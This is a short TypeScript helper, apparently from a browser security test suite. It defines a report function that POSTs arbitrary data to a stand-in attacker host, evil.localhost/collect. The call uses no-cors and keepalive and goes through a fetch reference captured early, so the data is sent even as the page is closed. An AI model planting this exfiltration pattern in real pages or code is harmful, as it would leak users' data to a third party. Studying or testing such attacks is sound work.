/** Tells the attacker's site, from whichever page this runs in, also when that page is about to be left. */
export function report(body: string): void {
  const { protocol, port } = location;
  void fetchOfThePage(`${protocol}//evil.localhost:${port}/collect`, {
    method: "POST",
    mode: "no-cors",
    keepalive: true,
    body,
  });
}

// Taken before a script of the attacker's may have put itself before it.
const fetchOfThePage = window.fetch.bind(window);
